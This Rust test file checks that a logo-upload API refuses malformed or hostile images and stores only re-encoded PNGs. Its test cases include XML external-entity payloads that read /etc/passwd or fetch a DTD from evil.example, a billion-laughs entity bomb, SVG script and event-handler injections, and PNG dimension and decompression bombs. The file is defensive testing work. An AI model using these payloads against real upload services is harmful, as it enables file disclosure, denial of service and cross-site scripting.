//! Logos that are no logos, through the front door. What each decoder does with damaged bytes is the brand engine's to test; here it
//! counts that every refusal reaches the partner in words and that nothing of the upload is kept.

use super::Siege;
use crate::people::{house, owner};
use axum::http::Method;
use image::{DynamicImage, GrayAlphaImage, GrayImage, ImageBuffer, ImageFormat, Luma, Rgba, RgbaImage};
use slipway_testkit::{EngineKind, on_both_engines};
use std::fmt::Write as _;
use std::io::Cursor;

on_both_engines!(every_upload_that_is_no_logo_is_refused_in_words, unusual_pictures_become_plain_ones);

fn encoded(picture: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut bytes = Cursor::new(Vec::new());
    picture.write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

fn square(side_px: u32) -> DynamicImage {
    RgbaImage::from_fn(side_px, side_px, |x, y| {
        Rgba([20, 120, 60, if (x / 64 + y / 64) % 2 == 0 { 255 } else { 0 }])
    })
    .into()
}

fn opaque(side_px: u32) -> DynamicImage {
    square(side_px).to_rgb8().into()
}

fn svg(body: &str) -> Vec<u8> {
    let spaces = r#"xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink""#;
    format!(r#"<svg {spaces} viewBox="0 0 100 100"><circle cx="50" cy="50" r="40"/>{body}</svg>"#)
        .into_bytes()
}

fn root(attributes: &str) -> Vec<u8> {
    format!(r#"<svg xmlns="http://www.w3.org/2000/svg" {attributes}><circle cx="50" cy="50" r="40"/></svg>"#)
        .into_bytes()
}

fn png_of(
    width_px: u32,
    height_px: u32,
    adjust: impl FnOnce(&mut png::Encoder<'_, &mut Vec<u8>>),
    data: &[u8],
) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, width_px, height_px);
    adjust(&mut encoder);
    let mut writer = encoder.write_header().unwrap();
    writer.write_image_data(data).unwrap();
    drop(writer);
    bytes
}

/// A PNG whose header tells another size than its data has.
fn with_size(mut png: Vec<u8>, width_px: u32, height_px: u32) -> Vec<u8> {
    png[16..20].copy_from_slice(&width_px.to_be_bytes());
    png[20..24].copy_from_slice(&height_px.to_be_bytes());
    let sum = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&sum.to_be_bytes());
    png
}

/// The check sum of PNG chunks (W3C PNG, annex D).
fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |sum, byte| {
        (0..8).fold(
            sum ^ u32::from(*byte),
            |sum: u32, _| if sum & 1 == 1 { sum >> 1 ^ 0xedb8_8320 } else { sum >> 1 },
        )
    })
}

/// Uploads with what is claimed of them and a part of what the partner must hear.
fn refused() -> Vec<(String, &'static str, Vec<u8>, &'static str)> {
    let mut cases = Vec::new();
    let mut case =
        |name: &str, claim, bytes: Vec<u8>, told| cases.push((name.to_owned(), claim, bytes, told));
    let (png, jpeg) = (encoded(&square(512), ImageFormat::Png), encoded(&opaque(512), ImageFormat::Jpeg));
    let webp = encoded(&square(512), ImageFormat::WebP);
    for (format, bytes) in [("image/png", &png), ("image/jpeg", &jpeg), ("image/webp", &webp)] {
        for length in [16, 33, bytes.len() / 4, bytes.len() / 2, bytes.len() - 1] {
            case(&format!("{format} cut to {length}"), format, bytes[..length].to_vec(), "ends early");
        }
    }
    case("nothing", "image/png", Vec::new(), "is empty");
    case("a PNG named SVG", "image/svg+xml", png.clone(), "contains PNG");
    case("an SVG named PNG", "image/png", svg(""), "contains SVG");
    case("a JPEG named PNG", "image/png", jpeg.clone(), "contains JPEG");
    case("a WebP named JPEG", "image/jpeg", webp.clone(), "contains WebP");
    case("a page", "text/html", b"<html><script>1</script></html>".to_vec(), "no picture format");
    case("an archive", "image/png", b"PK\x03\x04nothing".to_vec(), "ZIP files");
    case("a program", "", b"\x7fELF\x02\x01\x01".to_vec(), "no picture format");
    case(
        "a GIF that moves",
        "image/gif",
        b"GIF89a\x01\0\x01\0\0\0\0!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0".to_vec(),
        "GIF files",
    );
    case("a video", "image/avif", b"\0\0\0\x20ftypavis\0\0\0\0".to_vec(), "video");
    let mut moving = Vec::new();
    let mut encoder = png::Encoder::new(&mut moving, 512, 512);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_animated(2, 0).unwrap();
    let mut writer = encoder.write_header().unwrap();
    (0..2_u8).for_each(|frame| writer.write_image_data(&vec![frame; 512 * 512]).unwrap());
    drop(writer);
    case("a PNG that moves", "image/png", moving, "animated");
    let vp8x = [&b"VP8X"[..], &10_u32.to_le_bytes(), &[0b10, 0, 0, 0], &[255, 1, 0], &[255, 1, 0]].concat();
    let size = u32::try_from(vp8x.len()).unwrap() + 4;
    case(
        "a WebP that moves",
        "image/webp",
        [&b"RIFF"[..], &size.to_le_bytes(), b"WEBP", &vp8x].concat(),
        "animated",
    );
    let mut cmyk = vec![0xff, 0xd8, 0xff, 0xc0, 0, 20, 8, 2, 0, 2, 0, 4];
    cmyk.extend([1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0, 4, 0x11, 0]);
    case("a JPEG for print", "image/jpeg", cmyk, "CMYK");
    case("a bomb", "image/png", with_size(png.clone(), 30_000, 30_000), "no side may exceed");
    case(
        "a bomb of 2^31",
        "image/png",
        with_size(png.clone(), 0x7fff_ffff, 0x7fff_ffff),
        "no side may exceed",
    );
    case("more than there is", "image/png", with_size(png.clone(), 4_000, 4_000), "PNG file");
    case("no width", "image/png", with_size(png.clone(), 0, 512), "at least 512 px");
    case("one pixel", "image/png", encoded(&square(1), ImageFormat::Png), "at least 512 px");
    case(
        "a strip",
        "image/png",
        encoded(&DynamicImage::new_luma8(2_000, 520), ImageFormat::Png),
        "times the shorter",
    );
    case(
        "a ghost",
        "image/png",
        encoded(&DynamicImage::new_rgba8(512, 512), ImageFormat::Png),
        "transparent",
    );
    let mut damaged = png.clone();
    damaged[60] ^= 0xff;
    case("a flipped byte", "image/png", damaged, "PNG file");
    let laughs = (0..9).fold(String::new(), |mut text, level| {
        write!(text, "<!ENTITY l{} \"{}\">", level + 1, format!("&l{level};").repeat(10)).unwrap();
        text
    });
    let document = |entities: &str, used: &str| {
        format!(
            "<!DOCTYPE svg [{entities}]><svg xmlns=\"http://www.w3.org/2000/svg\"><title>{used}</title></svg>"
        )
        .into_bytes()
    };
    case(
        "a billion laughs",
        "image/svg+xml",
        document(&format!("<!ENTITY l0 \"ha\">{laughs}"), "&l9;"),
        "entities",
    );
    case(
        "a file of ours",
        "image/svg+xml",
        document("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"),
        "entities",
    );
    case(
        "a parameter entity",
        "image/svg+xml",
        document("<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;", ""),
        "entities",
    );
    let doubling: String = (0..40)
        .map(|level| {
            let next = format!("<use href='#g{}'/>", level + 1);
            format!("<g id='g{level}'>{next}{next}</g>")
        })
        .collect();
    let lines = [
        ("a script", "<script>alert(1)</script>", "script"),
        (
            "a script of another prefix",
            "<s:script xmlns:s='http://www.w3.org/2000/svg'>1</s:script>",
            "script",
        ),
        ("a script in CDATA", "<script><![CDATA[alert(1)]]></script>", "script"),
        ("a handler", "<g onclick='x()'/>", "script"),
        ("a handler in capitals", "<g ONLOAD='x()'/>", "script"),
        ("a link that runs", "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>", ""),
        ("another server", "<image href='https://evil.example/a.png'/>", "refers to"),
        ("another server without a scheme", "<use xlink:href='//evil.example/a.svg#a'/>", "refers to"),
        ("a file", "<image xlink:href='file:///etc/passwd'/>", "refers to"),
        ("a style sheet", "<style>@import url(https://evil.example/a.css);</style>", "style sheet"),
        (
            "a paint elsewhere",
            "<rect fill='url(https://evil.example/#a)' width='9' height='9'/>",
            "refers to",
        ),
        ("a picture in it", "<image href='data:image/png;base64,AAAA'/>", "embedded picture"),
        ("a drawing in it", "<image href='data:image/svg+xml;base64,PHN2Zy8+'/>", ""),
        (
            "a page in it",
            "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
            "foreignObject",
        ),
        (
            "a filter",
            "<filter id='f'><feGaussianBlur stdDeviation='900'/></filter><rect filter='url(#f)' width='9' height='9'/>",
            "filter",
        ),
        (
            "an inclusion",
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
            "",
        ),
        ("movement", "<animate attributeName='x' to='9'/>", "animate"),
        ("text", "<text>Verde</text>", "outlines"),
        ("a circle of references", "<g id='a'><use href='#a'/></g>", "itself"),
        ("a doubling", &format!("<defs>{doubling}</defs><use href='#g0'/>"), "references are followed"),
        ("depth", &format!("{}{}", "<g>".repeat(5_000), "</g>".repeat(5_000)), ""),
        ("far outside", "<circle cx='50' cy='50' r='9e9'/>", "outside its area"),
    ];
    for (name, body, told) in lines {
        case(&format!("an SVG with {name}"), "image/svg+xml", svg(body), told);
    }
    case(
        "an SVG that runs on loading",
        "image/svg+xml",
        root("viewBox='0 0 100 100' onload='alert(1)'"),
        "script",
    );
    case("an SVG of an endless view", "image/svg+xml", root("viewBox='0 0 1e38 1e-38'"), "");
    case("a strip of an SVG", "image/svg+xml", root("viewBox='0 0 900 100'"), "times the shorter");
    case(
        "an SVG in UTF-16",
        "image/svg+xml",
        svg("").iter().fold(vec![0xff, 0xfe], |mut text, byte| {
            text.extend([*byte, 0]);
            text
        }),
        "",
    );
    case("a packed SVG", "image/svg+xml", b"\x1f\x8b\x08\0\0\0\0\0".to_vec(), "compressed");
    case("an SVG cut off", "image/svg+xml", svg("")[..90].to_vec(), "well-formed");
    case("an SVG that never ends", "image/svg+xml", [svg(""), vec![b' '; 1_100_000]].concat(), "bytes");
    cases
}

async fn every_upload_that_is_no_logo_is_refused_in_words(engine: EngineKind) {
    let house = house(engine);
    let mut owner = owner(&house, "harbour").await;
    let mut siege = Siege::of(house).await;
    for (name, claim, bytes, told) in refused() {
        siege.pause();
        let reply = owner.send_bytes(Method::POST, "/api/v1/logos", Some(claim), bytes).await;
        assert_eq!(
            reply.problem(),
            (422, "logos.refused".to_owned()),
            "{name}: {}",
            String::from_utf8_lossy(&reply.bytes)
        );
        let detail = reply.json()["detail"].as_str().unwrap().to_owned();
        assert!(detail.contains(told), "{name}: {detail}");
        assert!(
            detail.contains(':') && detail.ends_with('.'),
            "{name}: it does not say what to do: {detail}"
        );
        siege.judge(&name, &reply).await;
    }
    let large = owner
        .send_bytes(Method::POST, "/api/v1/logos", Some("image/png"), vec![0; 5 * 1024 * 1024 + 1])
        .await;
    assert_eq!(large.problem(), (413, "request.too_large".to_owned()));
    siege.judge("more than 5 MB", &large).await;
}

async fn unusual_pictures_become_plain_ones(engine: EngineKind) {
    let house = house(engine);
    let mut owner = owner(&house, "harbour").await;
    let grey = |x: u32, y: u32| u8::try_from((x + y) % 256).unwrap();
    let deep: ImageBuffer<Rgba<u16>, _> =
        ImageBuffer::from_fn(600, 600, |x, _| Rgba([u16::try_from(x * 100).unwrap(), 300, 40_000, 65_535]));
    let deep_grey: ImageBuffer<Luma<u16>, _> =
        ImageBuffer::from_fn(600, 600, |x, _| Luma([u16::try_from(x * 100).unwrap()]));
    let palette = |encoder: &mut png::Encoder<'_, &mut Vec<u8>>| {
        encoder.set_color(png::ColorType::Indexed);
        encoder.set_depth(png::BitDepth::One);
        encoder.set_palette(vec![20, 120, 60, 250, 250, 240]);
    };
    let bits = |encoder: &mut png::Encoder<'_, &mut Vec<u8>>| {
        encoder.set_color(png::ColorType::Grayscale);
        encoder.set_depth(png::BitDepth::One);
    };
    let noted = |encoder: &mut png::Encoder<'_, &mut Vec<u8>>| {
        encoder.set_color(png::ColorType::Grayscale);
        encoder.add_ztxt_chunk("Comment".to_owned(), "a".repeat(20_000_000)).unwrap();
    };
    // Far more pixels in the data than the header tells of: what is beyond the picture is never unpacked.
    let stuffed = with_size(png_of(16_000, 16_000, bits, &vec![0x0f; 16_000 * 2_000]), 512, 512);
    let hidden = [encoded(&square(512), ImageFormat::Png), b"<script>alert(1)</script>".to_vec()].concat();
    let cases = [
        ("16 bits", encoded(&DynamicImage::ImageRgba16(deep), ImageFormat::Png), Some(201)),
        ("16 bits of grey", encoded(&DynamicImage::ImageLuma16(deep_grey), ImageFormat::Png), Some(201)),
        ("grey", encoded(&GrayImage::from_fn(600, 600, |x, y| Luma([grey(x, y)])).into(), ImageFormat::Png), Some(201)),
        ("grey with holes", encoded(&GrayAlphaImage::from_fn(600, 600, |x, y| image::LumaA([9, grey(x, y)])).into(), ImageFormat::Png), Some(201)),
        ("a palette", png_of(512, 512, palette, &[0x0f; 512 * 64]), Some(201)),
        ("one bit", png_of(512, 512, bits, &[0x0f; 512 * 64]), Some(201)),
        ("grey JPEG", encoded(&GrayImage::from_fn(600, 600, |x, y| Luma([grey(x, y)])).into(), ImageFormat::Jpeg), Some(201)),
        ("a long note", png_of(512, 512, noted, &[7; 512 * 512]), None),
        ("more data than it tells of", stuffed, None),
        ("something behind its end", hidden, None),
        ("no area", root("viewBox='0 0 0 0'"), None),
        ("a negative area", root("viewBox='0 0 -100 -100'"), None),
        (
            "a document type", [&b"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">"[..], &svg("")].concat(), Some(201)),
    ];
    let mut siege = Siege::of(house).await;
    for (name, bytes, expected) in cases {
        siege.pause();
        let reply = owner.send_bytes(Method::POST, "/api/v1/logos", None, bytes.clone()).await;
        let text = String::from_utf8_lossy(&reply.bytes).into_owned();
        assert!(expected.is_none_or(|status| reply.status == status), "{name}: {text:.400}");
        siege.judge(name, &reply).await;
        if reply.status != 201 {
            continue;
        }
        let path = format!("/api/v1/logos/{}/previews/logo.png", reply.json()["hash"].as_str().unwrap());
        let kept = owner.get(&path).await;
        assert_eq!(
            (kept.status.as_u16(), &kept.headers["content-type"]),
            (200, &"image/png".parse().unwrap()),
            "{name}"
        );
        assert!(
            kept.bytes.starts_with(b"\x89PNG") && kept.bytes != bytes,
            "{name}: the upload itself is kept"
        );
        assert!(!kept.bytes.windows(7).any(|window| window == b"<script"), "{name}: something rode along");
        let side_px = image::load_from_memory(&kept.bytes).unwrap().width();
        assert!((512..=1024).contains(&side_px), "{name}: {side_px} px");
    }
}
